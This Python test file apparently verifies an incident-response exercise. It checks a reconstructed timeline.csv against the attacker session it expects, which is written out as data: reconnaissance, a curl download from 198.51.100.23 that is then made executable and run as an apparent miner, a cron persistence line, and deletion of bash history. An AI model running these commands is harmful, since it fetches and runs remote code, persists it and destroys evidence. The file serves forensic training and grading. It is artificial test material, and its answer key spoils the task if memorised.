"""Utility verifier: the attacker session's executions, in order, arguments decoded."""
import csv
from pathlib import Path

TIMELINE = Path("/cases/IR-3107/work/timeline.csv")
WANT = [
    ["2026-11-26T03:14:37Z", "2230", "/usr/bin/id", "id"],
    ["2026-11-26T03:15:07Z", "2237", "/usr/bin/uname", "uname -a"],
    ["2026-11-26T03:15:21Z", "2244", "/usr/bin/cat", "cat /etc/passwd"],
    ["2026-11-26T03:15:31Z", "2251", "/usr/bin/sudo", "sudo -l"],
    ["2026-11-26T03:15:49Z", "2258", "/usr/bin/curl", "curl -fsSL -o /tmp/.x http://198.51.100.23/x86_64/update"],
    ["2026-11-26T03:16:23Z", "2265", "/usr/bin/chmod", "chmod +x /tmp/.x"],
    ["2026-11-26T03:16:27Z", "2272", "/tmp/.x", "/tmp/.x --daemon --pool 198.51.100.23:3333"],
    ["2026-11-26T03:16:59Z", "2279", "/usr/bin/bash", "bash -c (crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/.x --daemon') | crontab -"],
    ["2026-11-26T03:17:19Z", "2286", "/usr/bin/crontab", "crontab -"],
    ["2026-11-26T03:17:31Z", "2293", "/usr/bin/rm", "rm -f /home/deploy/.bash_history"],
]


def test_timeline():
    with TIMELINE.open(newline="") as f:
        rows = [r for r in csv.reader(f) if r]
    assert rows[0] == ["time", "pid", "exe", "command"]
    assert rows[1:] == WANT
